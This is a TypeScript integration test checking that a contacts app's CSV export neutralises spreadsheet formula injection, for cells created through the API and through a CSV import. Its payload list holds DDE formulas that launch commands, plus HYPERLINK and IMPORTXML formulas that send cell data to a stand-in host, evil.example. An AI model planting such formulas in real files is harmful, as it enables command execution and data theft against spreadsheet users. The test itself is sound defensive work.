import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/formats/csv-export.js';
import { DIALECTS } from '../support/db.js';
import { recordReliability } from '../support/reliability.js';
import { type WatchedApp, openWatchedApp, send } from './helpers.js';

/*
 * Formula injection in the CSV export (OWASP "CSV Injection"): whatever a
 * person's fields hold, typed through the API or brought in by an import,
 * no exported cell starts with = + - @ tab or CR, not even after leading
 * spaces or as the full-width forms, without the quote that makes a
 * spreadsheet read it as text.
 */

const TRIGGERS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const PAYLOADS = [
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  "1+1+cmd|' /C notepad'!'A1'",
  'SUM(1+1)*cmd|" /C calc"!A0',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  'DDE("cmd";"/C calc";"!A0")A0',
];

/** A cell a spreadsheet would run: a trigger first, possibly after blanks, with no quote before it. */
const RUNNABLE = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const hostile = fc
  .tuple(fc.constantFrom('', ' ', '  ', '\u00a0', '\u3000'), fc.constantFrom(...TRIGGERS), fc.constantFrom(...PAYLOADS))
  .map(([blank, trigger, payload]) => `${blank}${trigger}${payload}`);

describe('neutraliseFormula', () => {
  it('quotes every trigger, after blanks too, and leaves other text alone', () => {
    fc.assert(
      fc.property(hostile, (v) => {
        expect(neutraliseFormula(v)).toBe(`'${v}`);
      }),
    );
    for (const v of ['\tx', '\rx', '\n=x']) expect(neutraliseFormula(v)).toBe(`'${v}`);
    for (const v of ['Ana', "'=already", 'a=b', '2024-01-01', '', '1+1']) expect(neutraliseFormula(v)).toBe(v);
  });
});

describe.each(DIALECTS)('CSV export formula injection on %s', (dialect) => {
  let t: WatchedApp;
  let planted = 0;
  let cells = 0;
  let runnable = 0;
  beforeAll(async () => {
    t = await openWatchedApp(dialect);
  });
  afterAll(async () => {
    await t?.close();
    recordReliability({
      id: `csv-injection-${dialect}`,
      area: 'hostile input',
      test: `test/integration/csv-injection.test.ts (${dialect}): formulas planted through the API and a CSV import, then exported`,
      tried: `${planted} formula payloads (= + - @, full-width forms, after blanks) in every text field, ${cells} exported cells checked`,
      result: `${runnable} cells a spreadsheet would run`,
      ok: runnable === 0,
    });
    expect(t?.serverErrors ?? []).toEqual([]);
  });

  function check(csv: string) {
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        cells++;
        if (RUNNABLE.test(value)) runnable++;
        expect(value, `${column} of ${row.id}`).not.toMatch(RUNNABLE);
      }
    }
    return rows;
  }

  it('neutralises formulas planted through the API in every field', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 8, maxLength: 8 }), async (v) => {
        planted += v.length;
        const [name, headline, role, org, location, notes, nickname, tag] = v as [string, ...string[]];
        const res = await send(t.app, {
          method: 'POST',
          url: '/api/v1/people',
          body: {
            fullName: name,
            headline,
            roleTitle: role,
            organisationName: org,
            location,
            notes,
            nickname,
            tags: [tag?.slice(0, 60)],
            emails: [{ value: `x${planted}@example.com`, label: headline?.slice(0, 40) }],
            phones: [{ value: '+1 555 0100' }],
          },
        });
        expect(res.statusCode, res.body).toBeLessThan(500);
      }),
      { numRuns: 25 },
    );
    const csv = (await send(t.app, { method: 'GET', url: '/api/v1/export/people.csv' })).body;
    expect(check(csv).length).toBeGreaterThan(10);
  });

  it('neutralises formulas that came in through a CSV import', async () => {
    const lines = ['Name,Work Email,Employer,Role,City,Tags'];
    PAYLOADS.forEach((p, i) => {
      planted += 5;
      lines.push(
        // Names of their own: the people planted above must not match them as updates.
        `"=${p.replaceAll('"', '""')} imported ${i}",imp${i}@example.com,"+${i}${p.replaceAll('"', '""')}",-${i},@x${i}," =t${i}"`,
      );
    });
    const batch = await t.client.createImport({
      body: {
        source: 'csv',
        mapping: {
          Name: 'fullName',
          'Work Email': 'email',
          Employer: 'organisation',
          Role: 'roleTitle',
          City: 'location',
          Tags: 'tags',
        },
      },
    });
    await t.client.uploadImportFile({
      params: { id: batch.id, name: 'formulas.csv' },
      raw: { contentType: 'text/csv', body: Buffer.from(lines.join('\r\n')) },
    });
    await t.client.previewImport({ params: { id: batch.id }, body: {} });
    const applied = await t.client.applyImport({ params: { id: batch.id } });
    expect(applied.report?.counts.created).toBeGreaterThan(0);
    const rows = check(await t.client.exportCsv({ query: {} }));
    expect(rows.some((r) => r.full_name?.startsWith("'=cmd"))).toBe(true);
  });
});
